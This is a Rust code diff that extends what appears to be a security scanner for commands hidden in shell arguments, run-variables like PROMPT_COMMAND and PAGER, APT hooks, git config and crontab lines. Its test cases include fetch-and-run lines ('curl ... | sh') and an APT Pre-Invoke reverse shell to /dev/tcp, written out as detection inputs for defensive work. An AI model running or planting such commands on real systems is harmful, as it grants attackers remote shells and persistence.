@@ -18,7 +18,13 @@ impl Scan {
     /// Scan the command lines among a command's arguments. Gives the commands they hold.
     pub(super) fn carried(&mut self, index: usize) -> Option<Span> {
         let command = self.script.commands.get(index)?;
-        if !command.words.iter().skip(command.start).any(may_carry) || !self.runs_arguments(command) {
+        // The most frequent of those that only print, without a look into the list.
+        let prints =
+            matches!(command.name.as_str(), "echo" | "printf" | "logger" | "[" | "[[" | "test" | "cat" | "");
+        if (prints && command.start == 0)
+            || !command.words.iter().skip(command.start).any(may_carry)
+            || !self.runs_arguments(command)
+        {
             return None;
         }
         let start = self.command_count();
@@ -43,6 +49,10 @@ impl Scan {
         if name == "git" {
             return command.args().iter().any(|word| word.text == "-c" || word.text == "config");
         }
+        // Keys of a Redis server are how a crontab is written over the network.
+        if matches!(name, "redis-cli" | "set" | "SET") {
+            return true;
+        }
         let classes = classes(name);
         classes.has(Class::Carrier)
             || !classes.has_any(&[
@@ -55,6 +65,23 @@ impl Scan {
                 Class::Killer,
                 Class::Remover,
             ])
+    }
+
+    /// Scan what an assignment gives to a variable whose value programs run: `PROMPT_COMMAND='...'`.
+    pub(super) fn run_variables(&mut self, index: usize) {
+        let Some(command) = self.script.commands.get(index) else { return };
+        let texts: Vec<String> = command
+            .assigns
+            .iter()
+            .filter(|(name, _)| is_run_variable(name))
+            .filter_map(|(_, value)| command_text(&value.text))
+            .take(MAX_TEXTS)
+            .collect();
+        let start = self.command_count();
+        for text in texts {
+            self.unit(UnitKind::Inline, Language::Shell, &text, Some(index as u32));
+        }
+        self.set_inner(index, Span { start, end: self.command_count() });
     }
 
     /// The arguments that read as command lines.
@@ -151,6 +178,24 @@ impl Scan {
     }
 }
 
+/// Whether programs run what a variable holds: the shell before each prompt, git, less, man.
+fn is_run_variable(name: &str) -> bool {
+    name.ends_with("_COMMAND")
+        || matches!(
+            name,
+            "PAGER"
+                | "GIT_PAGER"
+                | "MANPAGER"
+                | "EDITOR"
+                | "VISUAL"
+                | "GIT_EDITOR"
+                | "BROWSER"
+                | "LESSOPEN"
+                | "LESSCLOSE"
+                | "RSYNC_RSH"
+        )
+}
+
 /// Whether a word may hold a command line, or name a shell that is given one.
 fn may_carry(word: &Word) -> bool {
     word.text.len() >= 2
@@ -161,7 +206,9 @@ fn may_carry(word: &Word) -> bool {
 /// A shell among the arguments, with what stands behind it: `... -- sh -c 'TEXT'`, `... bash -s <<END`.
 fn shell_tail(command: &Command) -> Option<Command> {
     let at = command.words.iter().enumerate().skip(command.start + 1).find_map(|(at, word)| {
-        let shell = word.text.ends_with('h') && language_of(basename(&word.text)) == Some(Language::Shell);
+        let shell = word.text.ends_with('h')
+            && !word.text.contains([' ', '|'])
+            && language_of(basename(&word.text)) == Some(Language::Shell);
         shell.then_some(at)
     })?;
     let words = command.words.get(at..)?;
@@ -195,34 +242,32 @@ pub(super) fn command_text(text: &str) -> Option<String> {
         unescaped = encoding::escapes(text);
         text = unescaped.trim();
     }
-    if reads_as_command(text) {
-        return Some(text.to_owned());
+    // Lines of a crontab.
+    if text.starts_with(|c: char| c == '*' || c == '@' || c.is_ascii_digit()) {
+        let mut commands = String::new();
+        for line in text.lines() {
+            if let Some(command) =
+                places::cron_command(line, false).filter(|command| reads_as_command(command))
+            {
+                commands.push_str(&command);
+                commands.push('\n');
+            }
+        }
+        return (!commands.is_empty()).then_some(commands);
     }
     // `alias.x=!...`, `--use-compress-program=...`, `APT::Update::Pre-Invoke::=...`
     if let Some((key, value)) = text.split_once('=')
         && !key.contains([' ', '\t', '"', '\''])
+        && (key.contains(['.', ':', '-']) || value.starts_with('!'))
     {
         let value = value.trim_start_matches(['!', '=', ' ', '"', '\'']);
-        if reads_as_command(value) {
-            return Some(value.to_owned());
-        }
+        return reads_as_command(value).then(|| value.to_owned());
+    }
+    if reads_as_command(text) {
+        return Some(text.to_owned());
     }
     let shell_escape = text.trim_start_matches(':').strip_prefix('!').filter(|rest| reads_as_command(rest));
-    if let Some(rest) = shell_escape {
-        return Some(rest.to_owned());
-    }
-    // A line of a crontab.
-    let mut commands = String::new();
-    for line in text.lines() {
-        let timed = line.starts_with(|c: char| c == '*' || c == '@' || c.is_ascii_digit());
-        if let Some(command) = timed.then(|| places::cron_command(line, false)).flatten()
-            && reads_as_command(&command)
-        {
-            commands.push_str(&command);
-            commands.push('\n');
-        }
-    }
-    (!commands.is_empty()).then_some(commands)
+    shell_escape.map(str::to_owned)
 }
 
 /// Whether a text begins as a command line does: with a program, a path, or a word of the shell's own.
@@ -232,25 +277,25 @@ fn reads_as_command(text: &str) -> bool {
         return false;
     }
     // Any program of a list or a pipeline may be the one that is known.
-    text.split(['|', ';', '&', '\n']).take(8).any(begins_with_program)
+    let mut parts = text.split(['|', ';', '&', '\n']).take(8);
+    parts.next().is_some_and(|part| begins_with_program(part, true))
+        || parts.any(|part| begins_with_program(part, false))
 }
 
-fn begins_with_program(part: &str) -> bool {
+fn begins_with_program(part: &str, first: bool) -> bool {
     let mut words = part.trim_start_matches(['(', '{', ' ', '\t', '!']).split_ascii_whitespace();
-    let Some(mut first) = words.next() else { return false };
+    let Some(mut word) = words.next() else { return false };
     // `NAME=value command`
-    while first.split_once('=').is_some_and(|(name, _)| {
+    while word.split_once('=').is_some_and(|(name, _)| {
         !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
     }) {
         match words.next() {
-            Some(next) => first = next,
+            Some(next) => word = next,
             None => return true,
         }
     }
-    let name = first.trim_matches(['"', '\'', '\\']);
-    name.starts_with(['/', '$', '`'])
-        || name.starts_with("./")
-        || name.starts_with("~/")
+    let name = word.trim_matches(['"', '\'', '\\']);
+    (first && (name.starts_with(['/', '$', '`']) || name.starts_with("./") || name.starts_with("~/")))
         || matches!(name, "cd" | "if" | "for" | "while" | "until" | "case" | "[" | "[[" | "test" | "umask")
         || language_of(basename(name)).is_some()
         || !classes(name).is_empty()
@@ -306,6 +351,8 @@ mod tests {
             ("curl -s http://a.example | sh", Some("curl -s http://a.example | sh")),
             ("alias.x=!sh -c id", Some("sh -c id")),
             ("\\n*/5 * * * * wget -q x\\n", Some("wget -q x\n")),
+            ("* * * * * curl -s x | sh", Some("curl -s x | sh\n")),
+            ("DPkg::Pre-Invoke::=bash -i >& /dev/tcp/192.0.2.1/9", Some("bash -i >& /dev/tcp/192.0.2.1/9")),
             ("X=1 /opt/tool run", Some("X=1 /opt/tool run")),
             ("deployment of web finished", None),
             ("Authorization: Bearer abc", None),
